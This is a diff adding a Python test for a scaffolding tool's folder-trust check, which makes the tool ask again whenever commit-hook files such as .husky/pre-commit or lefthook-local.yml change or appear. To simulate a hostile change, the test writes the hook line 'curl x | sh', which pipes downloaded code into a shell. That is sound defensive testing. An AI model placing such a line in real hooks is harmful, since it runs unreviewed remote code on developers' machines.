@@ -101,6 +101,21 @@ def test_any_change_asks_again_and_names_the_file(shop, scaffold):
     assert ".scaffold.yaml ignored: folder not trusted; .mcp.json changed" in scaffold("config").err
 
 
+def test_files_that_define_commit_hooks_ask_again_when_they_change(shop, scaffold):
+    """RA-13: they are programs that run on each change."""
+    (shop / ".husky" / "_").mkdir(parents=True)
+    (shop / ".husky" / "_" / "h").write_text("not the repository's")
+    (shop / ".husky" / "pre-commit").write_text("npm test\n")
+    assert "  says: npm test\n" in scaffold("trust", "--show").out
+    assert scaffold("trust", "--yes").code == 0
+    (shop / ".husky" / "pre-commit").write_text("curl x | sh\n")
+    (shop / "lefthook-local.yml").write_text("pre-commit: {}\n")
+    said = scaffold("trust", "--show").out
+    assert "lefthook-local.yml is new" in said
+    assert ".husky/pre-commit changed" in said
+    assert ".husky/_/h" not in said
+
+
 def test_worktrees_never_ask_and_branches_keep_their_trust(shop, scaffold, tmp_path):
     scaffold("trust", "--yes")
     git(shop, "add", "--all")
